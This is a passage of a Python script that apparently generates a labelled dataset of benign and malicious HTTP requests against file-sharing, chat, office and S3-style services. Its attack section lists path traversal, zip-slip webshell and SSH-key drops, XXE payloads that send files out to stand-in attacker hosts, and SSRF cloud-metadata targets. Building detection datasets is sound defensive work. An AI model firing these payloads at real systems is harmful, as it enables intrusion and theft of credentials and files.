        rec("benign", "chat-slash-command", "POST", "/hooks/commands/" + hexid(26),
            H("chat", "Mattermost-Bot/1.1", "Token " + hexid(26),
              "application/x-www-form-urlencoded"),
            qs([("channel_id", hexid(26)), ("channel_name", "town-square"), ("command", cmd),
                ("text", text), ("user_name", pick(USERS)), ("response_url",
                 "https://chat.example.com/hooks/commands/%s" % hexid(26))]))
    for i in range(12):
        payload = pick([
            {"text": "Build #%d passed :white_check_mark: on `main`" % R.randint(100, 9999),
             "username": "ci-bot", "icon_url": "https://ci.example.com/static/logo.png"},
            {"text": "New ticket: *Printer on floor 2 jams* (reported by %s)" % pick(USERS),
             "attachments": [{"color": "#FF8000", "title": "HELP-%d" % R.randint(1, 999),
                              "title_link": "https://help.example.com/browse/HELP-1"}]},
            {"text": "⚠️ Disk usage on nextcloud-data at 87% — please clean up old shares",
             "channel": "ops-alerts"},
        ])
        rec("benign", "chat-incoming-webhook", "POST", "/hooks/" + hexid(26),
            H("chat", pick(UA_BOT[3:]), None, "application/json", cookie=False),
            json.dumps(payload, ensure_ascii=False))
    for i in range(10):
        url = pick(["https://www.youtube.com/watch?v=dQw4w9WgXcQ", "https://github.com/nextcloud/server/issues/12345",
                    "https://en.wikipedia.org/wiki/WebDAV", "https://blog.example.com/2024/05/our-new-office/",
                    "https://docs.google.com/document/d/1AbCdEf/edit?usp=sharing", "https://news.ycombinator.com/item?id=40000000"])
        rec("benign", "chat-link-preview", "GET", "/api/v4/opengraph?" + qs([("url", url)]) if i % 2
            else "/_matrix/media/v3/preview_url?" + qs([("url", url), ("ts", str(R.randint(10**12, 10**13)))]),
            H("chat", None, bearer()))


def mail_send(sub, subject, body, to=None, cat="benign", group=None, html=False):
    to = to or "%s@example.com" % pick(USERS)
    if R.random() < 0.5:
        return rec(cat, sub, "POST", "/api/mail/send",
                   H("mail", None, bearer(), "application/json"),
                   json.dumps({"from": "%s@example.com" % pick(USERS), "to": [to],
                               "cc": [], "subject": subject, "body": body,
                               "isHtml": html, "draftId": R.randint(1, 99999)}, ensure_ascii=False),
                   group=group)
    return rec(cat, sub, "POST", "/?_task=mail&_action=send",
               H("mail", None, None, "application/x-www-form-urlencoded"),
               qs([("_token", hexid(32)), ("_id", hexid(13)), ("_from", str(R.randint(1, 5))),
                   ("_to", to), ("_subject", subject), ("_is_html", "1" if html else "0"),
                   ("_message", body), ("_draft_saveid", ""), ("_mdn", "")]), group=group)


@benign
def b_mail():
    for i in range(30):
        html = i % 5 == 0
        body = mail_body()
        if html:
            body = "<p>" + body.replace("\n\n", "</p><p>").replace("\n", "<br>") + "</p>"
        mail_send("webmail-send", pick(SUBJECTS), body, html=html)
    for i in range(6):
        rec("benign", "webmail-search", "GET", "/?" + qs([
            ("_task", "mail"), ("_action", "search"), ("_q", pick(["invoice", "O'Brien", "from:bob budget",
                                                                  "\"quarterly report\"", "Rechnung März", "-spam"])),
            ("_mbox", "INBOX"), ("_scope", "base"), ("_remote", "1")]),
            H("mail", None, None, extra=[["X-Roundcube-Request", hexid(32)]]))


@benign
def b_office():
    for i in range(24):
        fid = "%d_%s" % (R.randint(100, 99999), hexid(10))
        tok = hexid(40)
        op = i % 6
        if op == 0:
            rec("benign", "wopi-checkfileinfo", "GET", "/index.php/apps/richdocuments/wopi/files/%s?access_token=%s" % (fid, tok),
                H("office", "COOLWSD HTTP Agent 23.05.10.1", None, cookie=False))
        elif op == 1:
            rec("benign", "wopi-putfile", "POST", "/index.php/apps/richdocuments/wopi/files/%s/contents?access_token=%s" % (fid, tok),
                H("office", "COOLWSD HTTP Agent 23.05.10.1", None, "application/octet-stream", cookie=False,
                  extra=[["X-WOPI-Override", "PUT"], ["X-COOL-WOPI-IsModifiedByUser", "true"],
                         ["X-COOL-WOPI-Timestamp", "2024-05-14T10:%02d:00.000000Z" % R.randint(0, 59)]]),
                "PK\u0003\u0004\u0014\u0000\u0006\u0000")
        elif op == 2:
            rec("benign", "wopi-lock", "POST", "/wopi/files/%s?access_token=%s" % (fid, tok),
                H("office", "COOLWSD HTTP Agent 23.05.10.1", None, cookie=False,
                  extra=[["X-WOPI-Override", "LOCK"], ["X-WOPI-Lock", hexid(32)]]))
        elif op == 3:
            rec("benign", "wopi-rename", "POST", "/wopi/files/%s?access_token=%s" % (fid, tok),
                H("office", "COOLWSD HTTP Agent 23.05.10.1", None, cookie=False,
                  extra=[["X-WOPI-Override", "RENAME_FILE"], ["X-WOPI-Lock", hexid(32)],
                         ["X-WOPI-RequestedName", q(pick(FILES).rsplit(".", 1)[0], safe="")]]))
        elif op == 4:
            body = {"key": hexid(20), "status": pick([1, 2, 4, 6]),
                    "url": "https://%s/cache/files/data/%s/output.docx/output.docx?md5=%s&expires=%d&filename=output.docx"
                    % (pick(HOSTS["office"]), hexid(20), hexid(22), R.randint(1716000000, 1717000000)),
                    "changesurl": "https://%s/cache/files/data/%s/changes.zip/changes.zip" % (pick(HOSTS["office"]), hexid(20)),
                    "history": {"serverVersion": "8.0.1", "changes": [{"created": "2024-05-14 10:12:33",
                                "user": {"id": pick(USERS), "name": "Zoë O'Neil"}}]},
                    "users": [pick(USERS)], "actions": [{"type": 0, "userid": pick(USERS)}]}
            rec("benign", "onlyoffice-callback", "POST", "/index.php/apps/onlyoffice/track?" + qs([("doc", hexid(60))]),
                H("office", "Node.js/20", "Bearer " + hexid(40), "application/json", cookie=False), json.dumps(body, ensure_ascii=False))
        else:
            rec("benign", "office-convert", "POST", "/ocs/v2.php/apps/richdocuments/api/v1/convert?format=json",
                H("dav", None, basic(pick(USERS)), "application/json", extra=[["OCS-APIRequest", "true"]]),
                json.dumps({"fileId": R.randint(1, 99999), "targetFormat": pick(["pdf", "png", "odt", "docx"]),
                            "options": {"pageRange": pick(["1-3", "all", "2,4,6"]), "quality": 90}}))


WIKI_BODIES = [
    "<h1>Onboarding</h1><p>Welcome! Start with the <ac:link><ri:page ri:content-title=\"Team handbook\" /></ac:link>.</p>"
    "<ul><li><p>Laptop &amp; badge</p></li><li><p>VPN setup</p></li></ul>",
    "<p>Release notes for <strong>v2.4</strong> &ndash; see <a href=\"https://git.example.com/apollo/web/-/tags/v2.4\">tag</a>.</p>"
    "<ac:structured-macro ac:name=\"info\"><ac:rich-text-body><p>Deploy window: Tue 18:00&ndash;20:00 CET</p>"
    "</ac:rich-text-body></ac:structured-macro>",
    "<table><tbody><tr><th>Owner</th><th>Task</th></tr><tr><td><ac:link><ri:user ri:userkey=\"%s\" /></ac:link></td>"
    "<td>Update O'Reilly license list</td></tr></tbody></table>" % hexid(32),
    "<p>Meeting notes 2024-05-14</p><ac:task-list><ac:task><ac:task-status>incomplete</ac:task-status>"
    "<ac:task-body>Send minutes to the board</ac:task-body></ac:task></ac:task-list>",
    "<p>Büroregeln: Bitte die Küche sauber halten 🙂</p><p><img src=\"/download/attachments/1234/floorplan.png\" alt=\"floor plan\" /></p>",
]


@benign
def b_wiki_links():
    for i in range(20):
        title = pick(["Onboarding", "Release 2.4", "Team O'Brien – roadmap", "Büroregeln", "FAQ: VPN & Wi-Fi",
                      "Meeting notes 2024-05-14", "Q&A with the CEO"])
        rec("benign", "wiki-page", pick(["POST", "PUT"]), "/rest/api/content/%s" % (R.randint(10000, 999999) if i % 2 else ""),
            H("wiki", None, basic(pick(USERS)), "application/json", extra=[["X-Atlassian-Token", "no-check"]]),
            json.dumps({"type": "page", "title": title, "space": {"key": pick(["ENG", "HR", "OPS"])},
                        "version": {"number": R.randint(1, 30)},
                        "body": {"storage": {"value": pick(WIKI_BODIES), "representation": "storage"}}},
                       ensure_ascii=False))
    for i in range(5):
        rec("benign", "wiki-search", "GET", "/rest/api/content/search?" + qs([
            ("cql", pick(['text ~ "release notes" and space = ENG', 'title = "Team O\'Brien – roadmap"',
                          'label = "how-to" order by lastmodified desc', 'creator = currentUser() and type = page'])),
            ("limit", "25")]), H("wiki", None, basic(pick(USERS))))
    for i in range(18):
        op = i % 3
        if op == 0:
            rec("benign", "share-create", "POST", "/ocs/v2.php/apps/files_sharing/api/v1/shares?format=json",
                H("dav", None, basic(pick(USERS)), "application/x-www-form-urlencoded", extra=[["OCS-APIRequest", "true"]]),
                qs([("path", "/%s/%s" % (pick(FOLDERS), pick(FILES))), ("shareType", "3"), ("permissions", "1"),
                    ("password", ""), ("expireDate", "2024-07-01"), ("note", pick(["For the client review", "Bitte bis Freitag ansehen", "Here's the deck 🙂", ""]))]))
        elif op == 1:
            rec("benign", "share-open", "GET", "/s/%s/download?path=%s&files=%s" % (
                "".join(R.choice("ABCDEFGHJKLMNPQRSTabcdefghkmnpqrst23456789") for _ in range(15)),
                q("/" + pick(FOLDERS), ""), q(pick(FILES), "")), H("dav"))
        else:
            rec("benign", "files-search", "GET", "/ocs/v2.php/search/providers/files/search?" + qs([
                ("term", pick(["O'Brien", "budget 2024", "résumé", "Q3 & Q4", "会议", "plan (final)", "50% off"])),
                ("from", "/apps/files/"), ("limit", "5")]), H("dav", None, basic(pick(USERS)), extra=[["OCS-APIRequest", "true"]]))
    for i in range(10):
        rec("benign", "thumbnail", "GET", "/index.php/core/preview?" + qs([
            ("fileId", str(R.randint(1, 999999))), ("x", pick(["32", "256", "1024"])), ("y", pick(["32", "256", "1024"])),
            ("a", "true"), ("forceIcon", "0"), ("mimeFallback", "true")]) if i % 2 else
            "/index.php/apps/files_sharing/publicpreview/%s?%s" % (hexid(15), qs([("file", "/" + pick(FILES)), ("x", "1920"), ("y", "1080"), ("a", "true")])),
            H("dav"))
    for i in range(8):
        rec("benign", "user-lookup", "GET", "/ocs/v2.php/cloud/users?" + qs([("search", pick(
            ["o'brien", "müller", "kim", "group:admins", "anna k", "jose.alvarez@example.es", "*"])), ("limit", "25"),
            ("format", "json")]), H("dav", None, basic("admin"), extra=[["OCS-APIRequest", "true"]]))


def multipart(fields, files):
    """fields: [(name, value)], files: [(name, filename, ctype, content)] -> (ctype, body)."""
    bnd = "----WebKitFormBoundary" + "".join(R.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789") for _ in range(16))
    parts = []
    for n, v in fields:
        parts.append('--%s\r\nContent-Disposition: form-data; name="%s"\r\n\r\n%s\r\n' % (bnd, n, v))
    for n, fn, ct, c in files:
        parts.append('--%s\r\nContent-Disposition: form-data; name="%s"; filename="%s"\r\nContent-Type: %s\r\n\r\n%s\r\n'
                     % (bnd, n, fn, ct, c))
    return "multipart/form-data; boundary=" + bnd, "".join(parts) + "--%s--\r\n" % bnd


@benign
def b_misc():
    for i in range(20):
        fn = pick(FILES)
        ct, body = multipart([("channel_id", hexid(26)), ("client_ids", hexid(8))],
                             [("files", fn, pick(["image/png", "application/pdf", "text/plain"]),
                               pick(["\u0089PNG\r\n\u001a\n", "%PDF-1.7\n%\u00e2\u00e3\u00cf\u00d3\n", "see attached, thanks!"]))])
        rec("benign", "chat-file-upload", "POST", "/api/v4/files?channel_id=" + hexid(26),
            H("chat", None, bearer(), ct), body)
    for i in range(15):
        rec("benign", "file-comment", "POST", "/remote.php/dav/comments/files/%d" % R.randint(1, 99999),
            H("dav", None, basic(pick(USERS)), "application/json"),
            json.dumps({"actorType": "users", "verb": "comment", "objectType": "files",
                        "message": pick(CHAT)}, ensure_ascii=False))
    for i in range(15):
        s, d, l = pick(EVENTS)
        rec("benign", "calendar-invite-api", "POST", "/apps/calendar/api/v1/events",
            H("dav", None, bearer(), "application/json"),
            json.dumps({"title": s, "description": d.replace("\\n", "\n"), "location": l,
                        "start": "2024-06-%02dT09:00:00+02:00" % R.randint(1, 28),
                        "attendees": ["%s@example.com" % pick(USERS) for _ in range(2)]}, ensure_ascii=False))
    for i in range(15):
        rec("benign", "matrix-sync", "GET", "/_matrix/client/v3/sync?" + qs([
            ("filter", json.dumps({"room": {"timeline": {"limit": 20}}}, separators=(",", ":"))),
            ("since", "s%d_%d_0_1_1_1_1_%d_0" % (R.randint(1, 9999), R.randint(1, 99999), R.randint(1, 999))),
            ("timeout", "30000")]), H("chat", "Element/1.11.66", bearer()))
    for i in range(15):
        rec("benign", "notification-settings", "PUT", "/api/v4/users/%s/patch" % hexid(26),
            H("chat", None, bearer(), "application/json"),
            json.dumps({"notify_props": {"email": "true", "push": "mention", "desktop": "all",
                                         "mention_keys": "%s,@%s" % (pick(USERS), pick(USERS)),
                                         "auto_responder_message": pick(["Hello, I'm out of office and checking emails infrequently.",
                                                                         "Ich bin bis 3. Juni im Urlaub. In dringenden Fällen: Tel. +49 30 1234-0",
                                                                         "Out until Monday {back soon} :)"])}}, ensure_ascii=False))


DEV_SNIPPETS = [
    ("shell", "try this:\n```\nkubectl -n storage logs deploy/minio --tail=100 | grep -i error\n```"),
    ("shell", "```bash\nfor f in *.log; do gzip \"$f\"; done && ls -la /var/log/app/\n```"),
    ("shell", "run `mc cp --recursive ./backup/ myminio/backups/$(date +%F)/` then check with `mc ls`"),
    ("shell", "```\ncurl -sS -H 'Authorization: Bearer $TOKEN' https://api.example.com/v1/users | jq '.[] | .email'\n```"),
    ("shell", "I had to `chmod 755 ./scripts/deploy.sh; ./scripts/deploy.sh staging` to make it work"),
    ("sql", "```sql\nSELECT u.id, u.email, count(o.id)\nFROM users u LEFT JOIN orders o ON o.user_id = u.id\nWHERE u.created_at > '2024-01-01'\nGROUP BY u.id, u.email ORDER BY 3 DESC LIMIT 20;\n```"),
    ("sql", "the migration fails on `ALTER TABLE oc_filecache ADD COLUMN metadata_etag VARCHAR(40) DEFAULT NULL;` any idea?"),
    ("sql", "```\nUPDATE oc_preferences SET configvalue = 'no' WHERE appid = 'core' AND configkey = 'lostpassword';\n```"),
    ("sql", "can someone explain why `SELECT * FROM shares WHERE token = ? OR 1=0` is slow? the plan does a seq scan"),
    ("html", "```html\n<div class=\"card\">\n  <img src=\"/static/logo.svg\" alt=\"logo\">\n  <button onclick=\"toggleMenu()\">Menu</button>\n</div>\n```"),
    ("js", "```js\nconst res = await fetch('/api/v4/posts', { method: 'POST', body: JSON.stringify(post) });\nif (!res.ok) console.error(await res.text());\n```"),
    ("js", "quick fix: `document.querySelector('#upload').addEventListener('change', e => handle(e.target.files))`"),
    ("html", "use `<script src=\"https://cdn.example.com/widget.js\" defer></script>` in the template header"),
    ("trace", "```\nTraceback (most recent call last):\n  File \"/app/worker.py\", line 88, in convert\n    subprocess.run(['soffice', '--headless', '--convert-to', 'pdf', path], check=True)\n  File \"/usr/lib/python3.11/subprocess.py\", line 571, in run\n    raise CalledProcessError(retcode, process.args,\nsubprocess.CalledProcessError: Command '['soffice', '--headless']' returned non-zero exit status 1.\n```"),
    ("trace", "```\njava.lang.NullPointerException: Cannot invoke \"String.length()\" because \"name\" is null\n\tat com.acme.storage.KeyValidator.check(KeyValidator.java:42)\n\tat com.acme.storage.UploadServlet.doPut(UploadServlet.java:117)\n\tat javax.servlet.http.HttpServlet.service(HttpServlet.java:764)\n```"),
    ("trace", "PHP Fatal error:  Uncaught Error: Call to a member function getId() on null in /var/www/html/lib/private/Files/View.php:1245\nStack trace:\n#0 /var/www/html/apps/dav/lib/Connector/Sabre/File.php(202): OC\\Files\\View->file_put_contents()"),
    ("config", "```yaml\napiVersion: v1\nkind: Service\nmetadata:\n  name: minio\nspec:\n  ports:\n    - port: 9000\n      targetPort: 9000\n  selector:\n    app: minio\n```"),
    ("config", "```nginx\nlocation /remote.php/dav {\n    proxy_pass http://nextcloud:80;\n    proxy_set_header Host $host;\n    client_max_body_size 10G;\n}\n```"),
    ("config", "```ini\n[mysqld]\nmax_connections = 500\ninnodb_buffer_pool_size = 4G\n```"),
    ("config", "the php.ini needs `memory_limit = 512M` and `upload_max_filesize = 16G`, then restart php-fpm"),
    ("xml", "```xml\n<?xml version=\"1.0\"?>\n<d:propfind xmlns:d=\"DAV:\"><d:prop><d:getetag/></d:prop></d:propfind>\n```\nthat's the minimal PROPFIND body"),
    ("python", "```python\nimport boto3\ns3 = boto3.client('s3', endpoint_url='http://minio:9000')\nfor obj in s3.list_objects_v2(Bucket='backups')['Contents']:\n    print(obj['Key'], obj['Size'])\n```"),
    ("go", "```go\nif err := os.MkdirAll(filepath.Join(root, name), 0o755); err != nil {\n    return fmt.Errorf(\"mkdir: %w\", err)\n}\n```"),
    ("regex", "regex for the ticket ids: `^[A-Z]{2,5}-\\d+$` works for JIRA keys"),
    ("shell", "```\n$ git log --oneline -n 5\na1b2c3d fix: handle empty Destination header\n9f8e7d6 chore: bump sabre/dav\n```"),
]


@benign
def b_dev_content():
    kinds = ["mattermost", "slack", "matrix", "form"]
    for i, (k, snip) in enumerate(DEV_SNIPPETS):
        chat_post(kinds[i % 4], "chat-snippet", snip, cat="dev-content", group="dev-content")
    for i, (k, snip) in enumerate(R.sample(DEV_SNIPPETS, 15)):
        if "```" in snip:
            lang, _, code = snip.split("```")[1].partition("\n")
        else:
            lang, code = "", snip
        body = ('<p>Snippet (%s):</p><ac:structured-macro ac:name="code"><ac:parameter ac:name="language">%s'
                '</ac:parameter><ac:plain-text-body><![CDATA[%s]]></ac:plain-text-body></ac:structured-macro>'
                % (k, lang or "none", code))
        rec("dev-content", "wiki-code-block", "PUT", "/rest/api/content/%d" % R.randint(10000, 999999),
            H("wiki", None, basic(pick(USERS)), "application/json"),
            json.dumps({"type": "page", "title": "Runbook: %s" % k, "version": {"number": R.randint(2, 40)},
                        "body": {"storage": {"value": body, "representation": "storage"}}}), group="dev-content")
    for i in range(10):
        k, snip = pick(DEV_SNIPPETS)
        mail_send("email-snippet", "Re: deploy issue", "Hi,\n\nhere is what I ran:\n\n%s\n\n%s" % (snip, pick(SIGS)),
                  cat="dev-content", group="dev-content")


# ------------------------------------------------------ attack generators

TRAV_PATH = [  # already in wire form (used raw inside URIs / headers)
    "../../../../etc/passwd", "..%2f..%2f..%2f..%2fetc%2fpasswd", "%2e%2e/%2e%2e/%2e%2e/etc/shadow",
    "%2e%2e%2f%2e%2e%2f%2e%2e%2fvar%2fwww%2fhtml%2fconfig%2fconfig.php",
    "..%252f..%252f..%252fetc%252fpasswd", "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
    "%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afetc%c0%afpasswd", "..%c0%af..%c0%af..%c0%afetc/hosts",
    "....//....//....//etc/passwd", "..\\..\\..\\..\\windows\\win.ini", "..%5c..%5c..%5cwindows%5cwin.ini",
    "%252e%252e%252f%252e%252e%252fproc%252fself%252fenviron", "..;/..;/..;/etc/passwd",
    "../../../../proc/self/environ", "../../../var/run/secrets/kubernetes.io/serviceaccount/token",
    "..%2F..%2F..%2F..%2Fvar%2Frun%2Fsecrets%2Fkubernetes.io%2Fserviceaccount%2Ftoken",
    "%u002e%u002e/%u002e%u002e/etc/passwd", "..%u2215..%u2215etc%u2215passwd",
    "../../../../root/.ssh/id_rsa", "..%2f..%2f..%2f..%2fhome%2fminio%2f.minio.sys%2fconfig%2fconfig.json",
    "../../config/config.php", "..%2f..%2fdata%2fnextcloud.log",
]


@attack
def a_lfi():
    for i, t in enumerate(R.sample(TRAV_PATH, 14)):
        u = pick(USERS)
        rec("lfi", "webdav-path", pick(["GET", "PROPFIND", "GET"]), "%s/%s/%s" % (dav_base(u), q(pick(FOLDERS)), t),
            H("dav", pick(UA_DAV), basic(u), extra=[["Depth", "0"]]))
    for i, t in enumerate(TRAV_PATH[1:11]):
        u = pick(USERS)
        dst = "https://%s%s/%s" % (pick(HOSTS["dav"]), dav_base(u), t)
        if i % 4 == 3:
            dst = "%s/%s" % (dav_base(u), t)   # relative Destination
        rec("lfi", "webdav-destination", pick(["MOVE", "COPY"]), "%s/%s" % (dav_base(u), q(pick(FILES))),
            H("dav", pick(UA_DAV), basic(u), extra=[["Destination", dst], ["Overwrite", "T"]]))
    for i, t in enumerate(R.sample(TRAV_PATH, 10)):
        b = pick(BUCKETS)
        if i % 3 == 0:
            rec("lfi", "s3-object-key", "GET", "/%s/%s" % (b, t), s3h())
        elif i % 3 == 1:
            rec("lfi", "s3-presigned-key", "PUT", "/%s/uploads/%s?%s" % (b, t, presign()),
                s3h("application/octet-stream", presigned=True), "owned")
        else:
            rec("lfi", "s3-copy-source", "PUT", "/%s/%s" % (b, q(s3key())),
                s3h(extra=[["x-amz-copy-source", "/%s/%s" % (b, t)]]))
    for i in range(6):
        t = pick(TRAV_PATH)
        rec("lfi", "share-download-param", "GET", "/s/%s/download?path=%s&files=%s" % (
            hexid(15), pick(["%2F", "%2FDocuments"]), t.replace("/", "%2F")), H("dav"))
    for i in range(4):
        t = pick(TRAV_PATH)
        rec("lfi", "preview-file-param", "GET", "/index.php/apps/files_sharing/publicpreview/%s?file=%s&x=256&y=256"
            % (hexid(15), t.replace("/", "%2F")), H("dav"))
    for i in range(4):
        rec("lfi", "wopi-file-id", "GET", "/wopi/files/%s/contents?access_token=%s" % (pick(TRAV_PATH[:6]), hexid(40)),
            H("office", "COOLWSD HTTP Agent 23.05.10.1", None, cookie=False))
    # zip-slip: archive entries with traversal names, uploaded to extract endpoints
    slips = ["../../../../var/www/html/shell.php", "..\\..\\..\\inetpub\\wwwroot\\cmd.aspx",
             "../../../../etc/cron.d/evil", "../../../../root/.ssh/authorized_keys",
             "../../../home/www-data/.bashrc", "/etc/ld.so.preload"]
    for i, s in enumerate(slips):
        local = ("PK\u0003\u0004\u0014\u0000\u0000\u0000\u0008\u0000" + s +
                 "\u0000\u0000PK\u0001\u0002\u0014\u0003" + s + "PK\u0005\u0006")
        if i % 2 == 0:
            ct, body = multipart([("extract", "true"), ("target", "/Documents")],
                                 [("file", "photos.zip", "application/zip", local)])
            rec("lfi", "zip-slip-upload", "POST", "/apps/files/ajax/upload.php?extract=1", H("dav", None, None, ct), body)
        else:
            rec("lfi", "zip-slip-tar", "PUT", "%s/archive-%d.tar?extract=true" % (dav_base(pick(USERS)), i),
                H("dav", pick(UA_DAV), basic(pick(USERS)), "application/x-tar"),
                s + "\u0000" * 8 + "0000644\u00000001750\u0000ustar  \u0000root\u0000")
    for i, s in enumerate(slips[:4]):
        rec("lfi", "tus-upload-id", "PATCH", "/files/%s" % pick(TRAV_PATH[1:8]), [
            ["Host", "upload.acme.io"], ["User-Agent", "tus-js-client/4.1.0"], ["Tus-Resumable", "1.0.0"],
            ["Upload-Offset", "0"], ["Authorization", bearer()],
            ["Content-Type", "application/offset+octet-stream"]], "AAAA")
        ct, body = multipart([], [("files", s, "text/plain", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI attacker@kali")])
        rec("lfi", "multipart-filename", "POST", "/api/v4/files?channel_id=" + hexid(26),
            H("chat", None, bearer(), ct), body)


XXE_DTDS = [
    '<!DOCTYPE d [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
    '<!DOCTYPE foo [ <!ENTITY % remote SYSTEM "http://attacker.example.net/evil.dtd"> %remote; ]>',
    '<!DOCTYPE r [<!ENTITY % file SYSTEM "php://filter/convert.base64-encode/resource=/var/www/html/config/config.php">'
    '<!ENTITY % dtd SYSTEM "http://203.0.113.7:8000/x.dtd">%dtd;%send;]>',
    '<!DOCTYPE d [<!ENTITY xxe SYSTEM "http://169.254.169.254/latest/meta-data/iam/security-credentials/">]>',
    '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///var/run/secrets/kubernetes.io/serviceaccount/token">]>',
    '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
    '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>',
    '<!DOCTYPE a SYSTEM "http://oob.attacker.example/a.dtd">',
    '<!DOCTYPE d [<!ENTITY xxe SYSTEM "expect://id">]>',
    '<!DOCTYPE d [<!ENTITY % p1 SYSTEM "file:///etc/hostname"><!ENTITY % p2 "<!ENTITY e SYSTEM \'ftp://attacker.example:2121/%p1;\'>">%p2;]>',
    '<!DOCTYPE d [<!ENTITY xxe SYSTEM "netdoc:///etc/passwd">]>',
    '<!DOCTYPE d PUBLIC "-//A//B" "jar:http://attacker.example/x.zip!/x.dtd">',
]


@attack
def a_xxe():
    for i, dtd in enumerate(XXE_DTDS):
        u = pick(USERS)
        ent = "&xxe;" if "ENTITY xxe" in dtd else ("&lol3;" if "lol3" in dtd else ("&e;" if "ENTITY e" in dtd else ""))
        op = i % 5
        if op == 0:
            body = '<?xml version="1.0"?>\n%s\n<d:propfind xmlns:d="DAV:"><d:prop><d:displayname>%s</d:displayname></d:prop></d:propfind>' % (dtd, ent)
            rec("xxe", "webdav-propfind", "PROPFIND", dav_base(u) + "/", H("dav", pick(UA_DAV), basic(u),
                "application/xml", extra=[["Depth", "1"]]), body)
        elif op == 1:
            body = ('<?xml version="1.0" encoding="utf-8"?>\n%s\n<d:propertyupdate xmlns:d="DAV:" xmlns:oc="http://owncloud.org/ns">'
                    '<d:set><d:prop><oc:tags>%s</oc:tags></d:prop></d:set></d:propertyupdate>' % (dtd, ent))
            rec("xxe", "webdav-proppatch", "PROPPATCH", "%s/%s" % (dav_base(u), q(pick(FILES))),
                H("dav", pick(UA_DAV), basic(u), "text/xml"), body)
        elif op == 2:
            body = ('<?xml version="1.0"?>\n%s\n<c:calendar-query xmlns:d="DAV:" xmlns:c="urn:ietf:params:xml:ns:caldav">'
                    '<d:prop><d:getetag/></d:prop><c:filter><c:comp-filter name="VCALENDAR">%s</c:comp-filter></c:filter>'
                    '</c:calendar-query>' % (dtd, ent))
            rec("xxe", "caldav-report", "REPORT", "/remote.php/dav/calendars/%s/personal/" % q(u),
                H("dav", pick(UA_DAV), basic(u), "application/xml; charset=utf-8", extra=[["Depth", "1"]]), body)
        elif op == 3:
            body = ('<?xml version="1.0" encoding="UTF-8"?>\n%s\n<CompleteMultipartUpload xmlns="http://s3.amazonaws.com/doc/2006-03-01/">'
                    '<Part><PartNumber>1</PartNumber><ETag>%s</ETag></Part></CompleteMultipartUpload>' % (dtd, ent or etag()))
            rec("xxe", "s3-complete-multipart", "POST", "/%s/%s?uploadId=%s" % (pick(BUCKETS), q(s3key()), hexid(32)),
                s3h("application/xml"), body)
        else:
            body = '<?xml version="1.0"?>\n%s\n<Tagging><TagSet><Tag><Key>k</Key><Value>%s</Value></Tag></TagSet></Tagging>' % (dtd, ent)
            rec("xxe", "s3-tagging", "PUT", "/%s/%s?tagging" % (pick(BUCKETS), q(s3key())), s3h("application/xml"), body)
    # XInclude, no DOCTYPE
    xi = ['<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="file:///etc/passwd"/>',
          '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="http://169.254.169.254/latest/user-data" parse="text"/>',
          '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///proc/self/environ" parse="text"><xi:fallback/></xi:include>']
    for i, x in enumerate(xi):
        u = pick(USERS)
        rec("xxe", "xinclude-carddav", "REPORT", "/remote.php/dav/addressbooks/users/%s/contacts/" % q(u),
            H("dav", pick(UA_DAV), basic(u), "application/xml"),
            '<?xml version="1.0"?>\n<card:addressbook-query xmlns:d="DAV:" xmlns:card="urn:ietf:params:xml:ns:carddav">'
            '<d:prop><d:getetag/></d:prop><card:filter><card:prop-filter name="FN"><card:text-match>%s</card:text-match>'
            '</card:prop-filter></card:filter></card:addressbook-query>' % x)
    # LOCK owner and SVG / DOCX uploads carrying entities
    u = pick(USERS)
    rec("xxe", "webdav-lock", "LOCK", "%s/%s" % (dav_base(u), q(pick(FILES))),
        H("dav", "Microsoft-WebDAV-MiniRedir/10.0.22631", basic(u), "text/xml", extra=[["Timeout", "Second-3600"]]),
        '<?xml version="1.0"?>\n<!DOCTYPE l [<!ENTITY o SYSTEM "file:///etc/passwd">]>\n<d:lockinfo xmlns:d="DAV:">'
        '<d:lockscope><d:exclusive/></d:lockscope><d:locktype><d:write/></d:locktype><d:owner>&o;</d:owner></d:lockinfo>')
    rec("xxe", "svg-upload", "PUT", "%s/Photos/logo.svg" % dav_base(u), H("dav", pick(UA_DAV), basic(u), "image/svg+xml"),
        '<?xml version="1.0" standalone="yes"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/hostname">]>'
        '<svg xmlns="http://www.w3.org/2000/svg" width="200" height="50"><text x="0" y="20">&xxe;</text></svg>')
    ct, body = multipart([], [("file", "[Content_Types].xml", "application/xml",
                               '<?xml version="1.0"?><!DOCTYPE t [<!ENTITY % x SYSTEM "http://attacker.example/t.dtd"> %x;]>'
                               '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>')])
    rec("xxe", "office-import", "POST", "/apps/onlyoffice/ajax/import", H("office", None, bearer(), ct), body)
    rec("xxe", "soap-wopi", "POST", "/hosting/discovery", H("office", None, None, "text/xml"),
        '<?xml version="1.0" encoding="ISO-8859-1"?><!DOCTYPE foo [<!ELEMENT foo ANY><!ENTITY xxe SYSTEM "file:///c:/windows/win.ini">]><foo>&xxe;</foo>')


SSRF_TARGETS = [
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token",
    "http://metadata.google.internal/computeMetadata/v1/?recursive=true",
    "http://[fd00:ec2::254]/latest/meta-data/", "http://100.100.100.200/latest/meta-data/",
    "http://127.0.0.1:9000/minio/admin/v3/info", "http://localhost:6379/", "http://0.0.0.0:8080/actuator/env",
    "http://2852039166/latest/meta-data/", "http://0xa9fea9fe/latest/meta-data/", "http://0251.0376.0251.0376/latest/",
    "http://169.254.169.254.nip.io/latest/meta-data/", "http://[::ffff:a9fe:a9fe]/latest/meta-data/",
    "http://127.1/server-status", "http://[::1]:2379/v2/keys/?recursive=true",
